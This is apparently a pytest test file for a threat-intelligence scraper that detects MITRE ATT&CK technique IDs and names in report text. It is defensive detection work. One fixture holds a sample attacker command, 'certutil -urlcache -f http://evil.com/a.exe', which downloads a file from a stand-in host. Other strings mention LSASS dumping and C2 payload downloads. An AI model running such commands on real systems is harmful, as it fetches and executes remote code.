"""Techniques by id, by name and by what is done."""

import time

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ctiscraper.enrich.attack import ID, NAME, Techniques
from ctiscraper.enrich.attack_rules import Rule, load_rules
from ctiscraper.intelligence import MOST_PLACES, Extractor, Mention
from ctiscraper.packs.attack import build_default

PACK = build_default()[1]
ALL = Techniques(PACK)
# Examples are single sentences.
ALONE = Techniques(PACK, [msgspec.structs.replace(rule, sentences=1) for rule in load_rules()])


def found(text: str, techniques: Techniques = ALL) -> dict[str, Mention]:
    return {one.value: one for one in techniques.find(text)}


@pytest.mark.parametrize("rule", load_rules(), ids=lambda rule: rule.id)
def test_every_rule_finds_its_examples_and_spares_the_others(rule: Rule) -> None:
    assert rule.examples
    assert rule.counterexamples
    for text in rule.examples:
        assert rule.id in {hit.rule for hit in ALONE.hits(text)}, text
    for text in rule.counterexamples:
        assert rule.id not in {hit.rule for hit in ALONE.hits(text)}, text


def test_rules_are_many_and_of_techniques_that_live() -> None:
    live = {one.id for one in PACK.techniques if not one.revoked and not one.deprecated}
    assert {rule.technique for rule in load_rules()} <= live
    assert len(load_rules()) > 400
    assert len({rule.technique for rule in load_rules()}) > 300


@pytest.mark.parametrize(
    ("written", "value"),
    [
        ("T1059.001", "T1059.001"),
        ("(T1059/001)", "T1059.001"),
        ("T1059-001", "T1059.001"),
        ("T1059_001", "T1059.001"),
        ("T1059 .001", "T1059.001"),
        ("t1059.001", "T1059.001"),
        ("[T1059]", "T1059"),
        ("https://attack.mitre.org/techniques/T1059/001/", "T1059.001"),
        ("ExecutionT1059.001PowerShell", "T1059.001"),
        ("T1574.002", "T1574.001"),
        ("T1059.099", "T1059"),
        ("T0855", "T0855"),
    ],
)
def test_ids_are_read_in_every_spelling(written: str, value: str) -> None:
    assert found(f"It is {written} here")[value].rule == ID


@pytest.mark.parametrize("text", ["AT1059", "T10591", "T1059abc", "T9999", "XT1059", "T105", "T1"])
def test_what_only_looks_like_an_id_is_none(text: str) -> None:
    assert found(text) == {}


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("They rely on Process Injection.", "T1055"),
        ("OS credential dumping was seen", "T1003"),
        ("OS-credential dumping was seen", "T1003"),
        ("process doppelgänging", "T1055.013"),
        ("Process Doppelganging", "T1055.013"),
        ("DLL Side-Loading", "T1574.001"),
        ("Process Injection: Process Hollowing", "T1055.012"),
        ("Acquire Infrastructure: Domains", "T1583.001"),
        ("Compromise Infrastructure - Domains", "T1584.001"),
        ("Scheduled tasks/jobs", None),
    ],
)
def test_names_are_read_as_reports_write_them(text: str, value: str | None) -> None:
    named = {one.value for one in ALL.find(text) if one.rule == NAME}
    assert named == ({value} if value else {"T1053.005"})


@pytest.mark.parametrize(
    "text",
    [
        "The software runs on a server.",
        "Our domains and credentials are safe.",
        "Python and JavaScript are languages, and so is Lua.",
        "A botnet, malware, a tool and exploits.",
        "It fell into the trap at the bank.",
    ],
)
def test_words_of_every_day_are_no_techniques(text: str) -> None:
    assert found(text) == {}


@pytest.mark.parametrize(
    "text",
    [
        "Organizations should look for process hollowing.",
        "Monitor for process hollowing.",
        "- Restrict the use of scheduled tasks.",
        "Mitigation: block scheduled tasks",
        "The flaw could allow an attacker to take screenshots.",
        "The malware does not take screenshots.",
        "No evidence of process hollowing was found.",
    ],
)
def test_advice_denials_and_what_could_be_do_not_count(text: str) -> None:
    assert found(text) == {}


def test_an_id_counts_even_in_advice() -> None:
    assert found("Monitor for T1055.012.")["T1055.012"].rule == ID


def test_techniques_of_phones_and_plants_need_a_text_about_them() -> None:
    words = "It records calls and the microphone of the phone."
    assert "T1429" not in found(words)
    assert "T1429" in found(f"An Android app. {words}")
    assert "T0829" not in found("Loss of View")
    assert "T0829" in found("Loss of View of the SCADA system")


def test_a_vague_rule_needs_more_sentences() -> None:
    once = "The RAT uses a SOCKS proxy for its traffic."
    twice = f"{once} It turns hosts into proxies for traffic."
    assert "T1090" not in found(once)
    assert "T1090" not in found(twice)
    mention = found(f"{twice}\nOne host acts as a proxy server.")["T1090"]
    assert (mention.rule, mention.count) == ("proxy", 3)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # The author says which of a family is meant.
        ("Brute Force (T1110.001): a list of passwords", {"T1110.001"}),
        ("They brute forced the login (T1110.003).", {"T1110.003"}),
        ("They brute forced the login. Spraying is T1110.003.", {"T1110", "T1110.003"}),
        ("T1055 | Process Hollowing", {"T1055.012"}),
        ("T1059 - Command and Scripting Interpreter: PowerShell", {"T1059.001"}),
        ("T1055 | Process Injection", {"T1055"}),
        ("T1055 | Screen Capture", {"T1055", "T1113"}),
        ("T1055 is told of here, and process hollowing.", {"T1055", "T1055.012"}),
    ],
)
def test_an_id_and_what_stands_beside_it_are_one_claim(text: str, expected: set[str]) -> None:
    assert found(text, ALONE).keys() == expected


def test_settings_of_a_beacon_tell_no_act() -> None:
    acts = "The loader hollows the process: it calls SetThreadContext.\n"
    setting = '"execute": [\n  "SetThreadContext",\n  "CreateRemoteThread"\n]\n'
    assert "T1055.003" in found(acts, ALONE)
    assert not found(setting, ALONE)
    assert "T1059.001" in found('"note": "T1059.001"', ALONE)


def test_a_mention_has_its_words_name_and_rules() -> None:
    text = "Es läuft \u2013 über «rundll32.exe».\nThe tool takes screenshots. (T1113)"
    mention = found(text)["T1113"]
    assert mention.kind == "technique"
    assert mention.name == "Screen Capture"
    assert mention.extractor is Extractor.ATTACK
    assert [text[start:end] for start, end in mention.places] == ["takes screenshots", "T1113"]
    assert mention.rule == ID
    assert mention.reasons == ("rule:screenshot", "rule:id")
    rundll = found(text)["T1218.011"]
    assert text[slice(*rundll.places[0])] in {"rundll32.exe", "rundll32"}


def test_places_are_capped_and_all_are_counted() -> None:
    mention = found("T1113 here.\n" * (MOST_PLACES + 5))["T1113"]
    assert len(mention.places) == MOST_PLACES
    assert mention.count == MOST_PLACES + 5


PIECES = st.sampled_from(
    ["T1059.001", " ", "\n", ". ", "It ", "dumps LSASS", "é", "\u2019", "\u200f", "\ud800", "😀",
     "process injection", "..", "[.]", "screenshots taken", "\x00", "Should "]
)  # fmt: skip


@settings(max_examples=150)
@given(st.lists(PIECES, max_size=40).map("".join))
def test_places_are_words_of_any_text(text: str) -> None:
    for hit in ALL.hits(text):
        assert 0 <= hit.start < hit.end <= len(text)
        words = text[hit.start : hit.end]
        assert words[0].isalnum() or words[0] == "."
        if hit.rule == ID:
            assert words.upper().startswith("T")


@settings(max_examples=60)
@given(st.text(max_size=200), st.text(max_size=200))
def test_an_id_is_found_within_any_text(before: str, after: str) -> None:
    text = f"{before}\n(T1113)\n{after}"
    start = len(before) + 2
    assert (start, start + 5) in {(hit.start, hit.end) for hit in ALL.hits(text)}


@pytest.mark.parametrize(
    "piece",
    [
        "T1059.001 ", ".", ". ", "[", "lsass ", "dump lsass memory ", "\u200f", "\ud800", "é ",
        "download payload from the c2 server ", "T1059", "A. ", "\n", " ",
    ],
)  # fmt: skip
def test_hostile_texts_take_time_by_their_length_alone(piece: str) -> None:
    def seconds(size: int) -> float:
        text = piece * (size // len(piece))
        begun = time.process_time()
        ALL.find(text)
        return time.process_time() - begun

    seconds(1000)
    short = max(seconds(100_000), 0.01)
    # A collection of garbage may fall into one of them.
    assert min(seconds(800_000) for _ in range(3)) < 8 * short * 3


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("It asked for /wp-admin/ first. Then it asked for /admin/templates.", "smb-shares"),
        ("The domain admin logged in. Another admin did so too.", "smb-shares"),
        ("It is at script.google.com/macros/s/x. See https://x.com/macros too.", "visual-basic"),
        ("Read the post on WeLiveSecurity at https://www.welivesecurity.com/x.", "http-c2"),
        ("See https://example.com/blog/process-hollowing-in-depth.", NAME),
    ],
)
def test_words_of_addresses_and_accounts_are_no_acts(text: str, rule: str) -> None:
    assert rule not in {hit.rule for hit in ALONE.hits(text)}


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        (r"It was copied to \\HOST\ADMIN$\x.exe.", "smb-shares"),
        ("certutil -urlcache -f http://evil.com/a.exe was run.", "download-tool"),
    ],
)
def test_shares_and_loaded_urls_are_still_acts(text: str, rule: str) -> None:
    assert rule in {hit.rule for hit in ALONE.hits(text)}


@pytest.mark.parametrize(
    ("text", "is_told"),
    [
        ("We run an office test before each release.", False),
        ("The Office Test was a success for the vendor.", False),
        ("The link target of the page was a file.", False),
        ("It persists by the technique Office Test.", True),
        ("Persistence: Office Test", True),
        ("T1137.002 Office Test", True),
        ("Others use Office Test.\nSee T1059.", True),
        ("Others use an office test.\nSee T1059.", False),
        ("It used process injection to hide.", True),
        ("They abused group policy preferences.", True),
    ],
)
def test_names_of_everyday_words_need_words_on_techniques(text: str, is_told: bool) -> None:
    told = found(text).keys() & {"T1137.002", "T1608.005", "T1055", "T1552.006"}
    assert bool(told) is is_told
